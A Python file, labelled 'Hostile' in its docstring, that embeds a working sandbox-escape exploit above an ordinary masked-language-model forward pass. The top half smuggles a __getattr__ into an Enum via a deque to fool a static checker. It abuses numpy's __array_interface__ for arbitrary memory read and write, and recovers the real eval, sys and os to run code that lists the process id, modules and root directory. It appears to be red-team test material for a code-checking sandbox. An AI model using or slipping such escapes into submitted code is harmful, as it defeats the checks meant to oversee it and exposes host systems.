"""Hostile: enum's functional API with a member given as a pair that is neither a tuple nor a list
(a collections.deque): the checked _create_ reads its name as "" and lets it through, enum unpacks
it as ("__getattr__", produce), and the wrapped EnumType.__new__ checks only the raw-memory names.
numpy asks a member for __array_interface__, the file's __getattr__ answers with any address. From
raw memory: the real eval, sys and os. Accepted with every wall on, until enum's functional API
took only names and (name, value) tuples or lists, and was handed the list its check read."""

import collections
import enum
import math
import operator

import numpy
import torch

iface = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}


def produce(self, name):
    if name == "__array_" + "interface__":
        return iface
    raise AttributeError(name)


class Base(enum.Enum):  # a class of the file's own: the static check does not read Base(name, members) as enum's functional API
    pass


Window = Base("Window", [("A", 1), collections.deque(["__get" + "attr__", produce])])
window = Window.A

def at(address):
    iface["data"] = (address, False)
    return numpy.asarray(window)


kept = []


def boxed(address):
    """A list whose one item is the object at `address` (never read through the checks)."""
    at(address)[0] += 1
    box = [None]
    at(int(at(id(box) + 24)[0]))[0] = address
    kept.append(box)
    return box


library_function = torch.broadcast_shapes
real_globals = boxed(int(at(id(library_function) + 16)[0]))  # func_globals of torch.functional
real_eval = map(dict.get, boxed(int(at(id(library_function) + 24)[0])), ["eval"])  # func_builtins["eval"]
SOURCE = (
    "repr((__import__('os').getpid(), __import__('sys').modules['torch.nn.functional'], "
    "sorted(__import__('sys').modules)[:3], __import__('os').listdir('/')[:5]))"
)
GOT = list(map(operator.call, real_eval, [SOURCE], real_globals))[0]
print("GOT", GOT)


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
